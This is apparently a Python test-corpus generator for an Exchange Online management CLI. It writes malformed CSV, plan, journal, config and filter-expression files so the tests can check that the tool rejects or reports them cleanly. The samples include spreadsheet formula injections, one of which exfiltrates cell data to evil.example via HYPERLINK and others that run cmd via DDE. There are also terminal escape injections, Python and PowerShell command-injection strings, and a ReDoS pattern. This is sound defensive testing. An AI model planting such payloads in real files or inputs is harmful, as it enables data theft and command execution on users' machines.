"""Writes the bad-input corpus: files an admin (or an accident) could hand exocm.

Run from the repository root: ``python tests/data/bad/make_corpus.py``. The files are
committed; this script documents how each was made, and tests/test_bad_input.py checks the
committed bytes against it. Names say what is wrong:

- ``csv-*``     identity lists / on-prem exports (``exocm plan --csv/--exclude``, ``--onprem-csv``)
- ``plan-*``    plan files (``exocm show``, ``exocm apply``)
- ``journal-*`` journals (``exocm report``, ``exocm undo``)
- ``config-*``  config.toml (every command that reads profiles)
- ``where.txt`` filter expressions for ``exocm plan --where``, one per line

Files too big to commit (a 10 MB cell, 1,000,000 rows) are made on the fly by the tests.
Each entry of ``EXPECT`` says how the CLI must treat the file: ``"reject"`` = one error line
and exit 2; ``"report"`` = accepted, problems reported per line (never a traceback either way).
"""
from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

HERE = Path(__file__).parent

#: The tenant of the synthetic plans and journals (no sandbox has it: apply must refuse them).
OTHER_TENANT = "0badf00d-0000-4000-8000-000000000000"
EDOI = [f"3f2504e0-4f89-41d3-9a0c-0305e82c33{i:02d}" for i in range(1, 4)]


def _csv(text: str, encoding: str = "utf-8") -> bytes:
    return text.encode(encoding)


CSV: dict[str, bytes] = {
    "csv-cp1252.csv": _csv("Identity,Note\r\njosé.müller@contoso.com,Größe\r\nzoë@contoso.com,café\r\n", "cp1252"),
    "csv-utf16le-nobom.csv": _csv("Identity\r\nana.lopez@contoso.com\r\n", "utf-16-le"),
    "csv-latin1-in-utf8.csv": b"Identity\nana@contoso.com\n" + b"caf\xe9@contoso.com\n\xff\xfe\xfd\n",
    "csv-nul-bytes.csv": b"Identity\r\nana\x00.lopez@contoso.com\r\n\x00\x00\x00\r\nbob@contoso.com\r\n",
    "csv-unbalanced-quotes.csv": _csv('Identity,Note\n"ana@contoso.com,"open quote\nbob@contoso.com,ok\n'
                                      'carl@contoso.com,"never closed\n'),
    "csv-formula-cells.csv": _csv('Identity\n=HYPERLINK("http://evil.example/?x="&A1,"click")\n'
                                  "+cmd|' /C calc'!A0\n-2+3\n@SUM(1+1)*cmd|' /C calc'!A0\n"
                                  "ana@contoso.com\n"),
    "csv-duplicate-headers.csv": _csv("Identity,Identity,Alias,Alias\nana@contoso.com,bob@contoso.com,ana,bob\n"),
    "csv-no-header.csv": _csv("\n".join(EDOI) + "\n"),
    "csv-empty.csv": b"",
    "csv-bom-only.csv": b"\xef\xbb\xbf",
    "csv-header-only.csv": _csv("Identity\n"),
    "csv-ragged-rows.csv": _csv("Identity,Alias\nana@contoso.com\nbob@contoso.com,bob,extra,fields\n,,\n"),
    "csv-binary.csv": bytes.fromhex("89504e470d0a1a0a0000000d49484452") + bytes(range(256)),
    "csv-control-chars.csv": _csv("Identity\n\x1b[2Jcleared@contoso.com\n\x1b]8;;http://evil.example\x07x\x1b]8;;\x07\n"
                                  "[bold red]markup[/]@contoso.com\n\u202eevil\u202c@contoso.com\n"),
    "csv-mixed-newlines.csv": _csv("Identity\rana@contoso.com\nbob@contoso.com\r\ncarl@contoso.com"),
    "csv-wrong-delimiter.csv": _csv("Identity|Alias\nana@contoso.com|ana\n"),
    "csv-type-line-only.csv": _csv("#TYPE Selected.Microsoft.Exchange.Data.Directory.Management.Mailbox\r\n"),
    "csv-onprem-no-join-column.csv": _csv("DisplayName,Department\nAna,Sales\n"),
}


def _canonical(value: Any) -> str:
    return json.dumps(value, sort_keys=True, ensure_ascii=False, separators=(",", ":"))


def _plan(**overrides: Any) -> dict[str, Any]:
    """A well-formed plan for OTHER_TENANT (digest as exocm.core.plan.planfile computes it)."""
    observed = {"IsExchangeCloudManaged": False, "WhenChanged": "2030-01-01T00:00:00+00:00", "fingerprint": "x"}
    body: dict[str, Any] = {
        "schema_version": 1, "kind": "flip", "tenant": OTHER_TENANT, "bridge": "rest",
        "created_at": "2030-01-01T00:00:00+00:00", "tool_version": "0.1.0",
        "operation": "set-cloud-managed", "value": True,
        "source": {}, "input_report": [],
        "rows": [{"identity": i, "display_name": f"User {n}", "upn": f"u{n}@contoso.com", "action": "set",
                  "reason": "", "detail": "", "observed": observed} for n, i in enumerate(EDOI)],
    }
    body.update(overrides)
    return body


def _signed(body: dict[str, Any]) -> bytes:
    data = dict(body)
    data["digest"] = hashlib.sha256(_canonical(body).encode("utf-8")).hexdigest()
    return (json.dumps(data, indent=1, ensure_ascii=False) + "\n").encode("utf-8")


def _plans() -> dict[str, bytes]:
    good = _signed(_plan())
    edited = json.loads(good)
    edited["rows"][1]["identity"] = EDOI[0].replace("01", "99")  # a row edited by hand: the digest is stale
    return {
        "plan-other-tenant.json": good,
        "plan-truncated.json": good[: len(good) // 2],
        "plan-schema-99.json": _signed(_plan(schema_version=99)),
        "plan-no-schema.json": _signed({k: v for k, v in _plan().items() if k != "schema_version"}),
        "plan-stale-digest.json": (json.dumps(edited, indent=1) + "\n").encode(),
        "plan-wrong-types.json": _signed(_plan(value="yes", rows="all of them")),
        "plan-bad-row.json": _signed(_plan(rows=[{"identity": 5, "action": "delete"}])),
        "plan-duplicate-rows.json": _signed(_plan(rows=_plan()["rows"] * 2)),
        "plan-array.json": b"[1, 2, 3]\n",
        "plan-deep.json": b"[" * 20_000 + b"]" * 20_000,
        "plan-not-json.json": b"Identity,Action\nana@contoso.com,set\n",
        "plan-binary.json": bytes(range(256)),
        "plan-empty.json": b"",
    }


def _journals() -> dict[str, bytes]:
    header = {"type": "header", "schema": 1, "plan_digest": "d" * 64, "tenant": OTHER_TENANT, "run_id": "R1",
              "actor": "test", "started_at": "2030-01-01T00:00:00+00:00", "tool_version": "0.1.0"}
    rows = [{"type": "row", "run_id": "R1", "seq": n + 1, "identity": i, "status": "verified", "before": False,
             "after": True, "target": True, "error": None, "reason": "", "at": "2030-01-01T00:00:01+00:00"}
            for n, i in enumerate(EDOI)]
    good = "\n".join(json.dumps(r) for r in [header, *rows]) + "\n"
    return {
        "journal-torn-last-line.jsonl": (good + json.dumps(rows[0])[:25]).encode(),
        "journal-garbage-lines.jsonl": (json.dumps(header) + "\nnot json at all\n\x00\x01\x02\n[1,2]\n"
                                        + json.dumps(rows[0]) + "\n{\"type\": 5}\n"
                                        + json.dumps({**rows[1], "identity": 7}) + "\n"
                                        + json.dumps({**rows[2], "run_id": "OTHER"}) + "\n").encode(),
        "journal-wrong-types.jsonl": (json.dumps(header) + "\n" + json.dumps(
            {**rows[0], "status": ["verified"], "before": {"x": 1}, "after": "maybe", "at": 12,
             "seq": "one", "reason": None, "display_name": 42}) + "\n").encode(),
        "journal-no-header.jsonl": ("\n".join(json.dumps(r) for r in rows) + "\n").encode(),
        "journal-empty.jsonl": b"",
        "journal-binary.jsonl": bytes(range(256)) * 4,
        "journal-header-only.jsonl": (json.dumps(header) + "\n").encode(),
    }


CONFIG: dict[str, bytes] = {
    "config-wrong-types.toml": b'[profiles.prod]\ntenant = 5\nclient_id = ["a"]\n',
    "config-not-toml.toml": b"[profiles.prod\ntenant = \n",
    "config-verify-false.toml": (b'[profiles.prod]\ntenant = "contoso.onmicrosoft.com"\n'
                                 b'client_id = "11111111-2222-3333-4444-555555555555"\n'
                                 b'secret_env = "EXOCM_SECRET_PROD"\nverify = false\n'),
    "config-http-endpoint.toml": (b'[profiles.prod]\ntenant = "contoso.onmicrosoft.com"\n'
                                  b'client_id = "11111111-2222-3333-4444-555555555555"\ncloud = "custom"\n'
                                  b'secret_env = "EXOCM_SECRET_PROD"\nauthority = "http://login.example/t"\n'
                                  b'rest_base_url = "http://outlook.example"\n'),
    "config-profiles-array.toml": b"profiles = [1, 2, 3]\n",
    "config-default-int.toml": b"default = 3\n",
    "config-profile-not-table.toml": b'[profiles]\nprod = "yes"\n',
    "config-binary.toml": bytes(range(256)),
    "config-secret-in-clear.toml": (b'[profiles.prod]\ntenant = "contoso.onmicrosoft.com"\n'
                                    b'client_id = "11111111-2222-3333-4444-555555555555"\n'
                                    b'client_secret = "s3cr3t-in-clear"\n'),
}

WHERE: list[str] = [
    "",
    "   ",
    "RecipientTypeDetails ==",
    'RecipientTypeDetails == "SharedMailbox',
    "NoSuchColumn == 1",
    "((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((IsDirSynced",
    "IsDirSynced and and IsDirSynced",
    "IsDirSynced -eq",
    "DisplayName -like",
    "DisplayName -like '[a-'",
    "DisplayName matches '(a+)+$'",
    "__import__('os').system('id')",
    "DisplayName == $(Get-Process)",
    "IsDirSynced; Remove-Mailbox x",
    "IsDirSynced == 'yes' or",
    "\x1b[2J IsDirSynced",
    "DisplayName == '\x00'",
    "RecipientTypeDetails in (",
    "not",
    "WhenChanged > 'not a date'",
    "x" * 5000,
]

#: How the CLI must treat each file: "reject" (one error line, exit 2) or "report" (accepted, per-line report).
EXPECT: dict[str, str] = {
    **{name: "report" for name in CSV},
    "csv-onprem-no-join-column.csv": "report",  # as an identity list: no identity column -> reject
    **{name: "reject" for name in _plans()},
    "journal-torn-last-line.jsonl": "report",
    "journal-garbage-lines.jsonl": "report",
    "journal-wrong-types.jsonl": "report",
    "journal-header-only.jsonl": "report",
    "journal-no-header.jsonl": "reject",
    "journal-empty.jsonl": "reject",
    "journal-binary.jsonl": "reject",
    **{name: "reject" for name in CONFIG},
}


def files() -> dict[str, bytes]:
    """Every corpus file by name."""
    out: dict[str, bytes] = {}
    out.update(CSV)
    out.update(_plans())
    out.update(_journals())
    out.update(CONFIG)
    out["where.txt"] = ("\n".join(w.replace("\n", " ") for w in WHERE) + "\n").encode("utf-8")
    return out


if __name__ == "__main__":
    for name, data in files().items():
        (HERE / name).write_bytes(data)
    print(f"wrote {len(files())} files to {HERE}")
